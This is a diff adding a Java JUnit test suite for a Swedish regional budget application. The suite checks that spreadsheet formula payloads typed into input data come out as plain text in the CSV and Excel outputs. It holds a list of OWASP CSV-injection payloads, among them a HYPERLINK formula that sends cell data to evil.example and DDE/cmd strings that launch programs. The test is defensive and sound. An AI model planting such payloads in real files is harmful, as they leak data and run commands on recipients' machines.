@@ -1,0 +1,207 @@
+package se.regionorebrolan.tillaggsbelopp.command;
+
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.Reader;
+import java.io.Writer;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.HashSet;
+import java.util.List;
+import java.util.Set;
+import java.util.stream.Stream;
+
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVPrinter;
+import org.apache.commons.csv.CSVRecord;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.ss.usermodel.Row;
+import org.apache.poi.ss.usermodel.Sheet;
+import org.apache.poi.ss.usermodel.Workbook;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+
+import org.springframework.boot.test.system.CapturedOutput;
+import org.springframework.boot.test.system.OutputCaptureExtension;
+
+import se.regionorebrolan.tillaggsbelopp.input.ColumnKind;
+import se.regionorebrolan.tillaggsbelopp.input.InputColumn;
+import se.regionorebrolan.tillaggsbelopp.input.InputTables;
+import se.regionorebrolan.tillaggsbelopp.input.TableDescription;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static se.regionorebrolan.tillaggsbelopp.command.ApplicationRun.NOVEMBER_2026;
+import static se.regionorebrolan.tillaggsbelopp.command.ApplicationRun.runWithOperatorConfig;
+
+/**
+ * The hostile-input suite of values (issue 14, items 1, 9, 10 and 12): text that a
+ * spreadsheet would run as a formula, values the engine accepts but the workbook cannot
+ * hold, plausible but wrong values, and input workbooks that are not what they claim to
+ * be.
+ */
+@ExtendWith(OutputCaptureExtension.class)
+class HostileInputValuesTests {
+
+	/** OWASP's CSV injection payloads, as an attacker types them into any text. */
+	static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")",
+			"+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")");
+
+	/** What a payload would leave in a formula if it had become one. */
+	private static final List<String> TRACES = List.of("HYPERLINK", "evil", "cmd", "calc", "2+3", "1+1", "DDE");
+
+	@TempDir
+	Path folder;
+
+	/**
+	 * Item 1: the payloads in every text column of every input file reach the results
+	 * file, the payment basis and every workbook as text, never as a formula, from CSV
+	 * files and from the input workbook the templates command fills in with them.
+	 */
+	@Test
+	void writesFormulasTypedIntoAnyTextAsTextInEveryFileOfTheYear(CapturedOutput console) throws IOException {
+		WorkingFolder working = WorkingFolder.shipped(this.folder.resolve("work"));
+		poison(working.input());
+		Path output = working.output();
+
+		assertThat(command(working, "run")).as("run").isZero();
+		assertThat(command(working, "publish", "--tillagg.budget-year=2027", "--tillagg.version=1")).isZero();
+		assertThat(command(working, "payment", "--tillagg.budget-year=2027")).as("payment").isZero();
+		Files.writeString(working.input().resolve("distances.csv"),
+				Files.readString(working.input().resolve("distances.csv")).replace(",30,", ",31,"));
+		assertThat(command(working, "run")).as("version 2").isZero();
+		assertThat(command(working, "compare", "--tillagg.budget-year=2027", "--tillagg.version=2",
+				"--tillagg.compare-with=1"))
+			.isZero();
+		Path templates = this.folder.resolve("mallar");
+		assertThat(command(working, "templates", "--tillagg.input-dir=" + working.input(),
+				"--tillagg.templates-dir=" + templates, "--tillagg.templates-prefill=true"))
+			.isZero();
+		assertThat(runWithOperatorConfig(NOVEMBER_2026, "--tillagg.input-workbook=" + templates.resolve("indata.xlsx"),
+				"--spring.config.location=classpath:/application.yml,file:" + working.settings(),
+				"--tillagg.output-dir=" + output))
+			.as("run from the input workbook")
+			.isZero();
+
+		List<Path> csvFiles = files(output, ".csv").stream()
+			.filter(file -> !file.toString().contains("indata"))
+			.toList();
+		assertThat(csvFiles).hasSize(4);
+		csvFiles.forEach(HostileInputValuesTests::assertNamesAreGuarded);
+		List<Path> workbooks = new ArrayList<>(files(output, ".xlsx"));
+		workbooks.add(templates.resolve("indata.xlsx"));
+		// the results of three versions, the payment basis, the comparison, the input
+		// workbook archived
+		// with version 3 and the template it is a copy of
+		assertThat(workbooks).hasSize(7);
+		workbooks.forEach(HostileInputValuesTests::assertNoFormulaCameFromInput);
+		assertThat(console.getAll()).as("no Java on the console").doesNotContain(HostileCase.JAVA);
+	}
+
+	private static int command(WorkingFolder working, String... command) {
+		return runWithOperatorConfig(NOVEMBER_2026, working.arguments(List.of(command)));
+	}
+
+	/**
+	 * Puts a payload into every text and source column of every shipped file (a source
+	 * column into municipalities.csv, which has none), a different one in each row.
+	 */
+	private static void poison(Path input) throws IOException {
+		for (TableDescription<?> table : InputTables.ALL) {
+			Path file = input.resolve(table.fileName());
+			List<String> texts = table.columns()
+				.stream()
+				.filter(column -> column.kind() == ColumnKind.TEXT || column.kind() == ColumnKind.SOURCE)
+				.map(InputColumn::name)
+				.toList();
+			List<String> header;
+			List<CSVRecord> records;
+			try (Reader reader = Files.newBufferedReader(file);
+					CSVParser parser = CSVParser.builder()
+						.setReader(reader)
+						.setFormat(
+								CSVFormat.Builder.create(CSVFormat.RFC4180).setHeader().setSkipHeaderRecord(true).get())
+						.get()) {
+				header = new ArrayList<>(parser.getHeaderNames());
+				records = parser.getRecords();
+			}
+			if (!header.contains("source")) {
+				header.add("source");
+			}
+			try (Writer writer = Files.newBufferedWriter(file);
+					CSVPrinter printer = new CSVPrinter(writer,
+							CSVFormat.Builder.create(CSVFormat.RFC4180).setRecordSeparator('\n').get())) {
+				printer.printRecord(header);
+				for (int r = 0; r < records.size(); r++) {
+					List<String> values = new ArrayList<>();
+					for (int c = 0; c < header.size(); c++) {
+						values.add(texts.contains(header.get(c)) ? PAYLOADS.get((r + c) % PAYLOADS.size())
+								: records.get(r).get(header.get(c)));
+					}
+					printer.printRecord(values);
+				}
+			}
+		}
+	}
+
+	/**
+	 * Every municipality name in a results file or payment basis is one of the payloads,
+	 * quoted with a single quote before it.
+	 */
+	private static void assertNamesAreGuarded(Path file) {
+		try {
+			List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
+			assertThat(lines).as(file.toString()).hasSize(13);
+			for (String line : lines.subList(1, lines.size())) {
+				String name = line.substring(5, line.indexOf("\",", 5) + 1);
+				assertThat(PAYLOADS.stream().map(payload -> "\"'" + payload.strip().replace("\"", "\"\"") + "\""))
+					.as(line)
+					.contains(name);
+			}
+		}
+		catch (IOException ex) {
+			throw new AssertionError(ex);
+		}
+	}
+
+	/**
+	 * No formula of the workbook holds what a payload would leave in it, and every
+	 * payload that reached it is a text cell.
+	 */
+	private static void assertNoFormulaCameFromInput(Path file) {
+		Set<String> texts = new HashSet<>();
+		try (InputStream in = Files.newInputStream(file); Workbook workbook = new XSSFWorkbook(in)) {
+			for (Sheet sheet : workbook) {
+				for (Row row : sheet) {
+					for (Cell cell : row) {
+						if (cell.getCellType() == CellType.FORMULA) {
+							assertThat(cell.getCellFormula())
+								.as(file + " " + sheet.getSheetName() + "!" + cell.getAddress())
+								.doesNotContain(TRACES);
+						}
+						else if (cell.getCellType() == CellType.STRING) {
+							texts.add(cell.getStringCellValue());
+						}
+					}
+				}
+			}
+		}
+		catch (IOException ex) {
+			throw new AssertionError(ex);
+		}
+		assertThat(texts).as(file + ": the payloads as text")
+			.containsAnyElementsOf(PAYLOADS.stream().map(String::strip).toList());
+	}
+
+	private static List<Path> files(Path folder, String ending) throws IOException {
+		try (Stream<Path> paths = Files.walk(folder)) {
+			return paths.filter(path -> path.toString().endsWith(ending)).sorted().toList();
+		}
+	}
+
+}
